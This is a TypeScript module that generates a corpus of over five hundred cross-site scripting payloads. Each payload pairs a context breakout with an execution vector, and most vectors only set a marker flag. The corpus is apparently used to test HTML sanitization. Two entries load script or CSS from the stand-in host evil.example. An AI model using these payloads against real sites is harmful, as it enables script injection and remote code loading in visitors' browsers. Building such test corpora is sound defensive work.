import { markdownPayloads, payloads } from './payloads.ts';

/** What a text is put into, and what it must break out of to be believed there. */
const places = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '</script>',
    '</title>',
    '</textarea>',
    '</style>',
    '</noscript>',
    '</select>',
    '</template>',
  ],
  ...[
    '-->',
    ']]>',
    '*/',
    '"}}</script>',
    '\\"}</script>',
    "');",
    '\u2028',
    '&quot;>',
    '%22%3E',
    '</p></div>',
    '<!--',
  ],
];

/** What runs once it is out: each marks the window it ran in. */
const runs = [
  '<script>window.__pwn=1</script>',
  '<script>/*</script><svg onload=window.__pwn=1>',
  '<svg/onload=window.__pwn=1>',
  '<img src=x onerror=window.__pwn=1>',
  '<img src=x onerror="window.__pwn=1">',
  '<iframe srcdoc="<script>parent.__pwn=1</script>">',
  '<iframe src="javascript:parent.__pwn=1">',
  '<a href="javascript:window.__pwn=1">x</a>',
  '<a href="java&#9;script:window.__pwn=1">x</a>',
  '<details open ontoggle=window.__pwn=1>x</details>',
  '<video><source onerror=window.__pwn=1></video>',
  '<input autofocus onfocus=window.__pwn=1>',
  '<form><button formaction="javascript:window.__pwn=1">x</button></form>',
  '<object data="javascript:window.__pwn=1"></object>',
  '<base href="//evil.example/"><script src=/x.js></script>',
  '<style>@import"//evil.example/x.css"</style>',
  'x" onmouseover="window.__pwn=1" x="',
  "x' onfocus='window.__pwn=1' autofocus x='",
];

/** Every known payload, and each way to run after each way to break out: more than five hundred, none of them twice. */
export const corpus: readonly string[] = [
  ...new Set([
    ...payloads,
    ...markdownPayloads,
    ...places.flatMap((place) => runs.map((run) => place + run)),
  ]),
];
